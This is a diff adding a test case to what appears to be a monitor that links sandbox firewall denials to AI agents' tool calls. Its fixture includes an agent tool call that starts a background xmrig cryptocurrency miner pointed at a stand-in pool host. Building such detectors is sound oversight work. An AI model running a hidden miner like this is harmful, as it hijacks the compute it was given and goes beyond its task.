@@ -134,3 +134,25 @@ it('counts the port of an address in a file that the call uses as it counts one 
   expect(one?.toolCall?.id).toBe('call_a1');
   expect(one?.evidence.map(({ says }) => says)).toContain('port 4444 stands there as well');
 });
+
+it.each([
+  ['evenly', [-35, -25, -15, -5, 5, 15], 'ambiguous'],
+  ['at no pace', [-35, -29, -15, -9, 5, 19], 'likely'],
+  ['since it began', [1, 11, 21, 31, 41, 51], 'likely'],
+])(
+  'what a background call left behind explains no flow of those that went on before it %s',
+  async (name, seconds, verdict) => {
+    const dropped = (second: number): string => {
+      const at = new Date(Date.parse('2026-11-23T17:01:00.000Z') + second * 1000).toISOString();
+      return `${at} edge-fw kernel: [1.0] FW-EGRESS-DENY IN=inbr OUT=outbr SRC=10.66.1.2 DST=203.0.113.77 LEN=60 TOS=0x00 PREC=0x00 TTL=62 ID=${second + 99} DF PROTO=TCP SPT=${40_000 + second} DPT=3333 WINDOW=64240 RES=0x00 SYN URGP=0 `;
+    };
+    const report = await run(name, {
+      'leases.jsonl': [{ ...lease('sandbox-7', 'ep-a'), ip: '10.66.1.2' }],
+      'tool_calls.jsonl': [
+        call('call_a1', 'sandbox-7', 'ep-a', 'nohup ./xmrig -o 203.0.113.77:3333 >/dev/null 2>&1 &'),
+      ],
+      'fw-kernel.log': seconds.map(dropped).join('\n'),
+    });
+    expect(report.attributions.at(-1)?.verdict).toBe(verdict);
+  },
+);
